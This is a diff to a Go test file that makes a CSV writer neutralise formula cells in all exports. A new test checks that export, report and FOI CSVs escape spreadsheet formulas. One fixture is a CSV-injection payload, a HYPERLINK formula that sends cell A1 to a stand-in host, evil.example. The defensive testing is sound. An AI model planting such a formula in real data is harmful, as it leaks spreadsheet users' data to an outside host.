@@ -342,21 +342,65 @@ func TestExport_Format(t *testing.T) {
 
 func TestCSVWriter(t *testing.T) {
 	for _, tc := range []struct {
-		in    []string
-		excel bool
-		want  string
+		in   []string
+		want string
 	}{
-		{[]string{"a", "", "b c"}, false, "a,,b c\r\n"},
-		{[]string{"a,b", `say "hi"`, "x\ny", "cr\r"}, false, "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",\"cr\r\"\r\n"},
-		{[]string{"=1+2", "+1", "-1", "@x", "\tx", "\rx", "a=b", "é"}, true, "'=1+2,'+1,'-1,'@x,'\tx,\"'\rx\",a=b,é\r\n"},
-		{[]string{"=1+2"}, false, "=1+2\r\n"},
+		{[]string{"a", "", "b c"}, "a,,b c\r\n"},
+		{[]string{"a,b", `say "hi"`, "x\ny", "cr\r"}, "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",\"cr\r\"\r\n"},
+		// Formula cells are neutralised in every CSV.
+		{[]string{"=1+2", "+1", "-1", "@x", "\tx", "\rx", "a=b", "é"}, "'=1+2,'+1,'-1,'@x,'\tx,\"'\rx\",a=b,é\r\n"},
+		{[]string{`=HYPERLINK("http://x","y")`}, `"'=HYPERLINK(""http://x"",""y"")"` + "\r\n"},
 	} {
 		var b bytes.Buffer
-		w := &csvWriter{w: &b, excel: tc.excel}
+		w := &csvWriter{w: &b}
 		w.record(tc.in)
 		if b.String() != tc.want || w.err != nil {
 			t.Errorf("%q: %q, want %q", tc.in, b.String(), tc.want)
 		}
+	}
+}
+
+// TestCSV_FormulaCellsNeutralised: a value that a spreadsheet would run
+// as a formula, imported from a CSV, comes out neutralised in the export,
+// FOI and report CSVs, and unaltered in JSON.
+func TestCSV_FormulaCellsNeutralised(t *testing.T) {
+	s := mustOpen(t)
+	const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
+	data := header + `F1,,hdd,WDC,W1,,"` + strings.ReplaceAll(evil, `"`, `""`) + `",shred,"@SUM(1)",,yes,"+Acme",2021-01-05,0.6,,"-op",,"=1+2"` + "\n"
+	if _, err := importString(s, "f.csv", data); err != nil {
+		t.Fatal(err)
+	}
+	var exp, foi, rep, js bytes.Buffer
+	if _, err := s.WriteExport(&exp, ExportQuery{}, ExportOptions{Format: "csv"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.WriteExport(&js, ExportQuery{}, ExportOptions{Format: "json"}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := s.Report(ReportQuery{By: []string{"contractor", "site"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteReport(&rep, "csv", []string{"contractor", "site"}, rows); err != nil {
+		t.Fatal(err)
+	}
+	ans, err := s.FOI(FOIQuery{Years: []int{2021}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteFOI(&foi, "csv", ans); err != nil {
+		t.Fatal(err)
+	}
+	for name, out := range map[string]string{"export": exp.String(), "report": rep.String(), "foi": foi.String()} {
+		for _, cell := range strings.FieldsFunc(out, func(r rune) bool { return r == ',' || r == '\n' }) {
+			cell = strings.TrimPrefix(strings.TrimSpace(cell), `"`)
+			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
+				t.Errorf("%s CSV has a live formula cell %q:\n%s", name, cell, out)
+			}
+		}
+	}
+	if !strings.Contains(js.String(), `"site":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"`) {
+		t.Errorf("JSON export altered the value:\n%s", js.String())
 	}
 }
 
